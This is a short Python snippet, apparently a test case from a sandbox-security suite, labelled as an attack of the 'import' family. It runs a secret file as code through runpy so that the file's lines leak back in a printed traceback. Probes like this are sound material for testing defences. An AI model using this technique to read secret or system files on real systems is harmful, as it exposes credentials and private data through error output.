# attack: runs a file of the host as code; its lines come back in the traceback
# family: import
import runpy
import traceback
print("REACHED", runpy)
try:
    runpy.run_path("$SECRET_FILE")
except BaseException:
    print(traceback.format_exc())
